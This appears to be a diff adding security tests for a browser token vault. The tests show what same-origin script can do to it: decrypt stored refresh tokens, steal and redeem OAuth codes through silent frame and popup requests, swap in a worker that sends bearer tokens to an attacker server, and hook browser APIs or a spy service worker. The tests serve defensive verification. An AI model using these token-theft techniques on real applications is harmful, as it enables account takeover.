@@ -1,0 +1,482 @@
+// What script in the app's origin can do to a vault of the same origin, and cannot do to one on an origin of its own.
+// Each attack is run against both. The app's pages have no policies here, and its site gives out service workers: an
+// attacker could not wish for more.
+import assert from 'node:assert/strict'
+import { createHash, randomBytes } from 'node:crypto'
+import { after, afterEach, before, test } from 'node:test'
+import { booted, call, clickLogin, giveConsent, signIn, startApp, startLogin } from '../support/app.mjs'
+import { listen } from '../support/listen.mjs'
+import { VAULT_HOSTS } from '../support/vault_origin.mjs'
+
+const time = { timeout: 60_000 }
+
+/** The attacker's own server: what it was sent. */
+let evil
+/** The same app, with its vault in its own origin and behind a frame. */
+let plain
+let framed
+
+// The provider is of the app's site, so that it knows the user in frames, too.
+const provider = { host: `id.${VAULT_HOSTS.app.split('.').slice(1).join('.')}`, accessTokenSeconds: 60 }
+const config = { scope: 'openid profile orders' }
+
+before(async () => {
+  evil = await startEvil()
+  plain = await startApp({ config, site: { host: VAULT_HOSTS.app }, provider })
+  framed = await startApp({ config, provider, vaultOrigin: true })
+  for (const app of [plain, framed]) {
+    app.site.pageCsp = ''
+    app.site.headers['/index.html'] = { 'Cross-Origin-Opener-Policy': null }
+  }
+})
+after(() => Promise.all([plain?.close(), framed?.close(), evil?.close()]))
+afterEach(() => {
+  for (const app of [plain, framed]) app.setConfig({})
+  evil.heard.length = 0
+})
+
+/** Takes whatever a browser brings, from wherever. */
+async function startEvil() {
+  const heard = []
+  const server = await listen({
+    handler: (request, response) => {
+      if (request.headers.authorization) heard.push(request.headers.authorization)
+      response.writeHead(200, {
+        'Access-Control-Allow-Origin': request.headers.origin ?? '*',
+        'Access-Control-Allow-Headers': 'authorization',
+        'Access-Control-Allow-Credentials': 'true',
+      })
+      response.end()
+    },
+  })
+  return { ...server, heard }
+}
+
+const bearer = (app) => `Bearer ${app.ledger.newest('access_token').value}`
+
+/** Opens the app in a browser session of its own, where `script` runs before the page's own in the app's origin. */
+async function openWith(app, script = () => {}, argument) {
+  const context = await app.browser.newContext()
+  const source = `if (location.origin === ${JSON.stringify(app.site.origin)}) (${script})(${JSON.stringify(argument) ?? ''})`
+  await context.addInitScript(source)
+  return app.open('/', context)
+}
+
+test('reading storage: a sealed session is opened with the key that lies beside it', time, async () => {
+  const found = async (app) => {
+    app.setConfig({ session: { persist: 'sealed' }, scope: 'openid profile offline_access orders' })
+    const page = await openWith(app)
+    await signIn(page)
+    const texts = await page.evaluate(readStorage)
+    return {
+      databases: texts.length > 0,
+      token: texts.join().includes(app.ledger.newest('refresh_token').value),
+    }
+  }
+  assert.deepEqual(await found(plain), { databases: true, token: true })
+  assert.deepEqual(await found(framed), { databases: false, token: false })
+})
+
+test('reading storage: the vault’s origin opens to no script of the app’s', time, async () => {
+  const page = await openWith(framed)
+  await booted(page)
+  const outcome = await page.evaluate(() => {
+    const attempt = (action) => {
+      try {
+        return String(action())
+      } catch ({ name }) {
+        return name
+      }
+    }
+    const { contentWindow, contentDocument } = document.querySelector('iframe')
+    return {
+      document: attempt(() => contentDocument),
+      storage: attempt(() => contentWindow.indexedDB),
+      cookies: attempt(() => contentWindow.document.cookie),
+      script: attempt(() => contentWindow.eval('1')),
+    }
+  })
+  const refused = 'SecurityError'
+  assert.deepEqual(outcome, { document: 'null', storage: refused, cookies: refused, script: refused })
+})
+
+/** Runs in the page: all that the origin's databases have, opened with every key that lies there. */
+async function readStorage() {
+  const done = (request) => new Promise((resolve) => (request.onsuccess = () => resolve(request.result)))
+  const texts = []
+  for (const { name } of await indexedDB.databases()) {
+    const database = await done(indexedDB.open(name))
+    const read = (store) => done(database.transaction(store).objectStore(store).getAll())
+    const values = (await Promise.all([...database.objectStoreNames].map(read))).flat()
+    database.close()
+    const keys = values.filter((value) => value instanceof CryptoKey)
+    for (const { iv, sealed, name: record } of values.filter((value) => value?.sealed)) {
+      const additionalData = new TextEncoder().encode(record)
+      for (const key of keys) {
+        const opened = crypto.subtle.decrypt({ name: 'AES-GCM', iv, additionalData }, key, sealed)
+        texts.push(await opened.then((text) => new TextDecoder().decode(text)).catch(() => 'not this key'))
+      }
+    }
+  }
+  return texts
+}
+
+/** An authorization request of the attacker's own, without the user. The verifier is the attacker's. */
+function silentRequest(app, redirectUri) {
+  const verifier = randomBytes(32).toString('base64url')
+  const state = randomBytes(24).toString('base64url')
+  const url = new URL('/auth', app.provider.issuer)
+  url.search = new URLSearchParams({
+    response_type: 'code',
+    client_id: app.clientId,
+    redirect_uri: redirectUri,
+    scope: config.scope,
+    prompt: 'none',
+    state,
+    nonce: randomBytes(24).toString('base64url'),
+    code_challenge: createHash('sha256').update(verifier).digest('base64url'),
+    code_challenge_method: 'S256',
+  })
+  return { url: url.href, state, verifier, redirectUri }
+}
+
+/** What the attacker's server makes of a code. */
+async function redeem(app, code, { verifier, redirectUri }) {
+  const response = await fetch(`http://127.0.0.1:${app.provider.port}/token`, {
+    method: 'POST',
+    body: new URLSearchParams({
+      grant_type: 'authorization_code',
+      client_id: app.clientId,
+      redirect_uri: redirectUri,
+      code_verifier: verifier,
+      code,
+    }),
+  })
+  return (await response.json()).access_token
+}
+
+/** Runs in the page: asks in a frame whose own script cannot run, and reads where it ends. */
+function askInFrame(url) {
+  const frame = document.createElement('iframe')
+  frame.setAttribute('sandbox', 'allow-same-origin')
+  frame.src = url
+  document.body.append(frame)
+  return new Promise((resolve) => {
+    frame.onload = () => {
+      try {
+        resolve(frame.contentWindow.location.href)
+      } catch ({ name }) {
+        resolve(name)
+      }
+    }
+  })
+}
+
+const codeOf = (address) => new URLSearchParams(address.split('?')[1]).get('code')
+const codesIssued = (app) => app.ledger.entries.filter(({ kind }) => kind === 'authorization_code').length
+
+test(
+  'a silent login of its own, in a frame: with the app’s redirect URI the code is read, and redeemed',
+  time,
+  async () => {
+    const page = await openWith(plain)
+    await signIn(page)
+    const request = silentRequest(plain, `${plain.site.origin}/callback`)
+    const address = await page.evaluate(askInFrame, request.url)
+    assert.ok(await redeem(plain, codeOf(address), request))
+  },
+)
+
+test(
+  'a silent login of its own, in a frame: with the vault’s the code is issued, and out of reach',
+  time,
+  async () => {
+    const page = await openWith(framed)
+    await signIn(page)
+    const before = codesIssued(framed)
+    const request = silentRequest(framed, `${framed.vault.origin}/callback`)
+    assert.equal(await page.evaluate(askInFrame, request.url), 'SecurityError')
+    assert.equal(codesIssued(framed) - before, 1)
+    assert.equal(framed.vault.requests.at(-1).path, '/callback')
+  },
+)
+
+test('a silent login of its own: the provider knows no redirect URI of the app’s origin', time, async () => {
+  const page = await openWith(framed)
+  await signIn(page)
+  const before = codesIssued(framed)
+  const { url } = silentRequest(framed, `${framed.site.origin}/callback`)
+  await page.evaluate(askInFrame, url)
+  assert.equal(codesIssued(framed), before)
+})
+
+/**
+ * Runs in the page: every address of the popup that can be read, until it is the app's own again, or the popup has
+ * closed or is cut off.
+ */
+function askInPopup(url) {
+  const popup = window.open(url, '_blank', 'popup')
+  const seen = []
+  const read = () => {
+    try {
+      return popup.location.href
+    } catch {
+      // Another origin's.
+      return ''
+    }
+  }
+  return new Promise((resolve) => {
+    const look = setInterval(() => {
+      const here = popup.closed ? '' : read()
+      if (here.startsWith('http')) seen.push(here)
+      if (!popup.closed && !seen.length) return
+      clearInterval(look)
+      resolve(seen)
+    }, 1)
+  })
+}
+
+test(
+  'a silent login of its own, in a popup: with the vault’s redirect URI its state comes back, and no code',
+  time,
+  async () => {
+    const page = await openWith(framed)
+    await signIn(page)
+    const request = silentRequest(framed, `${framed.vault.origin}/callback`)
+    const [popup, answer] = await Promise.all([
+      page.waitForEvent('popup'),
+      page.evaluate(askInPopup, request.url),
+    ])
+    await popup.waitForURL(`${framed.site.origin}/callback**`)
+    const { value: code } = framed.ledger.newest('authorization_code')
+    assert.ok(!answer.join().includes(code), answer.join('\n'))
+    // The vault is told of that answer, too, and has begun no such login.
+    const { error } = await page.evaluate(
+      (state) => settle(room.handleCallback(`/callback#strongroom=${state}`)),
+      request.state,
+    )
+    assert.equal(error.code, 'login_unknown')
+    assert.ok(!error.message.includes(code))
+  },
+)
+
+test(
+  'a silent login of its own, in a popup: with the app’s redirect URI the code is read',
+  time,
+  async () => {
+    const page = await openWith(plain)
+    await signIn(page)
+    // The app's page would take the code away at once: it does not start.
+    const release = plain.site.override('/page.js', { body: '' })
+    try {
+      const request = silentRequest(plain, `${plain.site.origin}/callback`)
+      const addresses = await page.evaluate(askInPopup, request.url)
+      assert.ok(await redeem(plain, codeOf(addresses.at(-1)), request))
+    } finally {
+      release()
+    }
+  },
+)
+
+/** Runs before the page's own script: every worker becomes another one. */
+function replaceWorkers(url) {
+  const { SharedWorker: Genuine } = window
+  window.SharedWorker = function (_, options) {
+    return new Genuine(url, { ...options, name: 'evil' })
+  }
+}
+
+/** A worker's file that runs a vault as the app's own, which lets the attacker's server have tokens. */
+const evilWorker = (app, redirectUri) => `
+import { vault } from '/strongroom/worker.js'
+vault(${JSON.stringify({ ...app.config, redirectUri, apis: [{ url: `${evil.origin}/` }] })})`
+
+test('replacing the worker: the user signs in to the attacker’s, and its tokens leave', time, async () => {
+  plain.site.files['/evil.worker.js'] = evilWorker(plain, '/callback')
+  const page = await openWith(plain, replaceWorkers, '/evil.worker.js')
+  const release = plain.site.override('/evil.worker.js', { headers: { 'Content-Security-Policy': null } })
+  try {
+    await signIn(page)
+    await call(page, `${evil.origin}/`)
+    assert.deepEqual(evil.heard, [bearer(plain)])
+  } finally {
+    release()
+  }
+})
+
+test('replacing the worker: behind the frame it is the one of the frame’s file', time, async () => {
+  framed.site.files['/evil.worker.js'] = evilWorker(framed, '/callback')
+  const page = await openWith(framed, replaceWorkers, '/evil.worker.js')
+  await signIn(page)
+  assert.equal((await call(page, `${evil.origin}/`)).error.code, 'url_not_allowed')
+  assert.deepEqual(evil.heard, [])
+  assert.ok(!framed.site.requests.some(({ path }) => path === '/evil.worker.js'))
+})
+
+test(
+  'replacing the worker: one of the app’s origin cannot log in by the vault’s redirect URI',
+  time,
+  async () => {
+    framed.site.files['/evil.worker.js'] = evilWorker(framed, `${framed.vault.origin}/callback`)
+    const release = framed.site.override('/evil.worker.js', { headers: { 'Content-Security-Policy': null } })
+    for (const name of ['worker.js', 'strongroom_bg.wasm']) {
+      framed.site.files[`/strongroom/${name}`] = framed.vault.files[`/strongroom/${name}`]
+    }
+    try {
+      const page = await openWith(framed)
+      const { error } = await page.evaluate(() =>
+        settle(connect(new SharedWorker('/evil.worker.js', { type: 'module' }))),
+      )
+      assert.equal(error.code, 'config_invalid')
+      assert.match(error.message, /redirectUri/)
+    } finally {
+      release()
+    }
+  },
+)
+
+test(
+  'constructing the worker’s address: script of the same origin gets a port, of the app’s none',
+  time,
+  async () => {
+    const construct = async (app, address) => {
+      const page = await openWith(app)
+      await booted(page)
+      return page.evaluate((url) => {
+        try {
+          return String(new SharedWorker(url, { type: 'module', extendedLifetime: true }))
+        } catch ({ name }) {
+          return name
+        }
+      }, address)
+    }
+    assert.equal(await construct(plain, `${plain.site.origin}/auth.worker.js`), '[object SharedWorker]')
+    assert.equal(await construct(framed, `${framed.vault.origin}/auth.worker.js`), 'SecurityError')
+  },
+)
+
+/** A service worker that tells its pages which requests it sees, with what they carry. */
+const SPY = `
+addEventListener('install', () => skipWaiting())
+addEventListener('activate', (event) => event.waitUntil(clients.claim()))
+const seen = []
+addEventListener('fetch', ({ request }) => seen.push(request.url + ' ' + request.headers.get('authorization')))
+addEventListener('message', ({ source }) => source.postMessage(seen))
+`
+
+/** Registers the spy, signs in and calls: resolves with what the spy saw. */
+async function spy(app) {
+  app.site.files['/spy.js'] = SPY
+  app.site.serviceWorkers.push('/spy.js')
+  const page = await openWith(app)
+  await page.evaluate(async () => {
+    const controlled = new Promise((resolve) => (navigator.serviceWorker.oncontrollerchange = resolve))
+    await navigator.serviceWorker.register('/spy.js')
+    await controlled
+  })
+  // A worker that starts from now on is in its hands, if it can be.
+  const fresh = await app.open('/', page.context())
+  await page.close()
+  await signIn(fresh)
+  await call(fresh, `${app.api.url}orders`)
+  return fresh.evaluate(async () => {
+    const told = new Promise((resolve) => (navigator.serviceWorker.onmessage = resolve))
+    navigator.serviceWorker.controller.postMessage('')
+    return (await told).data
+  })
+}
+
+test(
+  'a service worker of the app’s origin sees the app’s requests, and none of the vault’s',
+  time,
+  async () => {
+    const seen = await spy(framed)
+    assert.ok(seen.some((request) => request.includes('/index.js')))
+    assert.deepEqual(
+      seen.filter((request) => !request.startsWith(framed.site.origin)),
+      [],
+    )
+  },
+)
+
+test('a service worker of the vault’s own origin would see the token', time, async () => {
+  const worker = plain.site.files['/auth.worker.js']
+  // Another worker than that of a session that is still there.
+  plain.setWorker(`${worker}\n// for the spy`)
+  const seen = await spy(plain)
+  assert.ok(
+    seen.some((request) => request.includes(bearer(plain))),
+    seen.join('\n'),
+  )
+})
+
+/** Runs before the page's own script: notes what passes through what that may use, where any page of the app finds it. */
+function tap() {
+  const keep = (text) => (localStorage.loot = (localStorage.loot ?? '') + text + '\n')
+  const note = (value, depth = 0) => {
+    if (typeof value === 'string') keep(value)
+    else if (value instanceof URL || value instanceof Request) keep(value.url ?? value.href)
+    else if (value && typeof value === 'object' && depth < 4)
+      for (const key in value) note(value[key], depth + 1)
+  }
+  const wrap = (owner, name) => {
+    const genuine = owner[name]
+    owner[name] = function (...args) {
+      note(args)
+      const result = genuine.apply(this, args)
+      note(result)
+      return result
+    }
+  }
+  wrap(window, 'fetch')
+  wrap(window, 'postMessage')
+  wrap(JSON, 'parse')
+  wrap(JSON, 'stringify')
+  for (const name of ['get', 'has', 'getAll']) wrap(URLSearchParams.prototype, name)
+  for (const { prototype } of [MessagePort, Worker, BroadcastChannel]) wrap(prototype, 'postMessage')
+  for (const name of ['encrypt', 'decrypt', 'digest', 'importKey', 'sign']) wrap(SubtleCrypto.prototype, name)
+  wrap(IDBObjectStore.prototype, 'put')
+  const { set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage')
+  Object.defineProperty(MessagePort.prototype, 'onmessage', {
+    set(handler) {
+      this.addEventListener('message', ({ data }) => note(data))
+      set.call(this, handler)
+    },
+  })
+}
+
+for (const [mode, begin] of [
+  ['redirect', startLogin],
+  ['popup', clickLogin],
+]) {
+  test(
+    `patched before the start, ${mode}: the code passes through a page of the app’s, or none`,
+    time,
+    async () => {
+      const seenIn = async (app) => {
+        const page = await openWith(app, tap)
+        await booted(page)
+        if (mode === 'redirect') {
+          await begin(page)
+          await giveConsent(page)
+          await page.waitForFunction(() => location.pathname === '/callback' && globalThis.boot)
+        } else {
+          const [popup] = await Promise.all([page.waitForEvent('popup'), begin(page)])
+          await giveConsent(popup)
+          await page.evaluate(() => login)
+        }
+        assert.equal((await call(page, `${app.api.url}orders`)).error, undefined)
+        const texts = await page.evaluate(() => localStorage.loot)
+        const { value: code } = app.ledger.newest('authorization_code')
+        const { value: token } = app.ledger.newest('access_token')
+        const { codeVerifier } = app.ledger.tokenRequests().at(-1)
+        const secrets = { code, token, codeVerifier }
+        // It sees something at all.
+        assert.ok(texts.includes('"t":"fetch"'))
+        return Object.keys(secrets).filter((name) => texts.includes(secrets[name]))
+      }
+      assert.deepEqual(await seenIn(plain), ['code'])
+      assert.deepEqual(await seenIn(framed), [])
+    },
+  )
+}
